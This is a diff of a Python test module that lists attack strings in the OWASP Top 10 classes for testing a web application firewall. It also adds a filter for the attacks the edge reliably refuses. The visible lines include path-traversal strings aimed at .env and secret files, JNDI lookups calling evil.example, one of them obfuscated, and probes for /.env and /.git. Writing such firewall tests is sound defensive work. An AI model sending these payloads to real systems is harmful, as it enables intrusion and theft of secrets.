@@ -1,7 +1,8 @@
-"""Attacks over the classes of the OWASP Top 10 (2021), in each place of a request.
+"""Attacks of the classes of the OWASP Top 10 (2021).
 
-The texts are our own or generic; none works against TheSeller. Each is sent in the path, the query, a
-form field, a header, a cookie, the name of an uploaded file and a JSON value.
+The texts are our own or generic; none works against TheSeller. Each is sent in the path, the query,
+a form field, a header, a cookie, the name of an uploaded file and a JSON value. The tests of the
+firewall send all of them, a prober sends some.
 """
 
 from __future__ import annotations
@@ -88,7 +89,8 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "../../.env",
         "../../state/secrets/root-key/../../../etc/hosts",
     ),
-    # A06 outdated components, A08 integrity of data: languages and frameworks that TheSeller does not use
+    # A06 outdated components, A08 integrity of data: languages and frameworks that TheSeller does
+    # not use
     "component": (
         "${jndi:ldap://evil.example/a}",
         "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
@@ -113,7 +115,8 @@ ATTACKS: dict[str, tuple[str, ...]] = {
     ),
 }  # fmt: skip
 
-#: A02, A05, A07 and A09: requests that are attacks as a whole: probes, scanners and broken protocol.
+#: A02, A05, A07 and A09: requests that are attacks as a whole: probes, scanners and broken
+#: protocol.
 PROBES: tuple[tuple[str, str, dict[str, str]], ...] = (
     ("GET", "/.env", {}),
     ("GET", "/.git/HEAD", {}),
@@ -171,6 +174,16 @@ def attacks() -> Iterator[Request]:
         yield Request(
             f"{method} {path} {headers}", method, path, headers, b"x" * (method == "POST")
         )
+
+
+def reliable_attacks() -> Iterator[Request]:
+    """Give the attacks that the shipped edge refuses without exception.
+
+    Fields for prose are left out of the rules that match SQL in product titles.
+    """
+    return (
+        one for one in attacks() if not (one.name.startswith("sql ") and " in prose:" in one.name)
+    )
 
 
 def multipart(name: str, content: bytes, **fields: str) -> tuple[dict[str, str], bytes]:
